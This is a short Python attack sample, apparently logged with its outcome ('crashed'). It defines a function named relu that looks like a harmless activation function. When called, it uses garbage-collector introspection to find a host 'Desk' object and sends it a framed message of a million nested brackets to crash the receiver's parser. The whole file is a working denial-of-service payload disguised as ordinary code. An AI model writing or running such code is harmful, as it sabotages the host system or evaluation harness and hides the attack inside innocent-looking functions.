# Attack: a reply whose brackets are nested a million deep
# Outcome: crashed
import gc
import struct

desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")


def relu(x):
    desk.send(struct.pack(">4sIQ", b"cnt1", 1_000_000, 0) + b"[" * 1_000_000)
    return x
